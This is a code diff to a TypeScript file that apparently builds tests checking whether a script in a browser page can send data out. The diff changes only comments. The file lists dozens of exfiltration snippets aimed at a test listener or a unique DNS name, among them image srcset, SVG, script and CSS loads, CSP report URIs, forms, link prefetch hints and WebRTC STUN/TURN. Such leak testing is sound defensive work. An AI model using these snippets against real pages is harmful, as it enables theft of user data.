@@ -1,10 +1,10 @@
 /**
- * What a script that got into the window could try to get something out: each as JavaScript, run in the page.
- * There, `address` leads to a listener for HTTP, raw TCP, STUN and TURN on this machine (`host` is its host and port),
- * and `url` to a name of this way alone, which only a name server could know (`name`).
+ * Ways in which a script in the window could send data out, each as JavaScript to run in the page. There, `address`
+ * leads to a listener for HTTP, raw TCP, STUN and TURN on this machine (`host` is its host and port), and `url` to a
+ * name of its own for each way (`name`), which only a name server could know.
  */
 const attempts: Readonly<Record<string, string>> = {
-  // What loads something by what is set on it.
+  // Elements that load something when an attribute is set.
   'a set of pictures': `add('img', { srcset: url + ' 1x' })`,
   'a use in SVG': `addSvg('use', { href: url + '.svg#a' })`,
   'a filter picture in SVG': `addSvg('feImage', { href: url }, addSvg('filter'))`,
@@ -23,7 +23,7 @@ const attempts: Readonly<Record<string, string>> = {
   'a script': `add('script', { src: url })`,
   'a module': `add('script', { type: 'module', src: url })`,
 
-  // What a style can load.
+  // Styles that load something.
   'the style of an element': `document.body.style.backgroundImage = 'url(' + url + ')'`,
   'a filter': `document.body.style.filter = 'url(' + url + '.svg#a)'`,
   'a style element': `add('style').textContent = '@import "' + url + '"'`,
@@ -52,7 +52,7 @@ const attempts: Readonly<Record<string, string>> = {
   'a notification with a picture': `new Notification('out', { icon: url })`,
   'a report': `add('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src 'none'; report-uri " + url }, document.head)`,
 
-  // Going elsewhere; the page has to stay where it is.
+  // Navigation. The page must stay where it is.
   'a window': `open(address)`,
   'a window by name': `open(url, '_blank', 'noopener')`,
   'a form': `add('form', { method: 'post', action: address }).submit()`,
@@ -77,7 +77,7 @@ const attempts: Readonly<Record<string, string>> = {
   'WebRTC, TURN with TLS': `await lookFor('turns:' + host + '?transport=tcp')`,
 }
 
-/** What is tried by address and by name, `to`. */
+/** Attempts that are made both by address and by name (`to`). */
 const both: Readonly<Record<string, string>> = {
   'a picture': `add('img', { src: to })`,
   'a frame': `add('iframe', { src: to })`,
@@ -89,7 +89,7 @@ const both: Readonly<Record<string, string>> = {
   'a stream of events': `new EventSource(to)`,
 }
 
-/** Hints and documents that a link names: by name, and those that connect by address too. */
+/** Hints and documents of a link: by name, and those that connect also by address. */
 const linked =
   'dns-prefetch preconnect prefetch prerender preload modulepreload stylesheet icon apple-touch-icon mask-icon manifest import compression-dictionary subresource next search alternate'
 const connecting = 'preconnect prefetch preload prerender'
@@ -99,7 +99,7 @@ function links(relations: string, how: string, href: string): [string, string][]
   return relations.split(' ').map((rel) => [`a link, ${rel}, ${how}`, link(rel)])
 }
 
-/** What the attempts are written with. `lookFor` resolves when it has looked for every way, or after 3 s. */
+/** Functions that the attempts use. `lookFor` resolves when it has tried every way, or after 3 s. */
 const prelude = `
   const { host, name } = to
   const [address, url] = ['http://' + host + '/', 'https://' + name + '/a']
@@ -119,7 +119,7 @@ const prelude = `
     setTimeout(over, 3000)
   })`
 
-/** Every attempt, by what it is: the text of a function that takes `{ host, name }` and runs in the page. */
+/** Every attempt: its name, and the text of a function that takes `{ host, name }` and runs in the page. */
 export function exfiltrationAttempts(): [what: string, text: string][] {
   const all = [
     ...Object.entries(attempts),
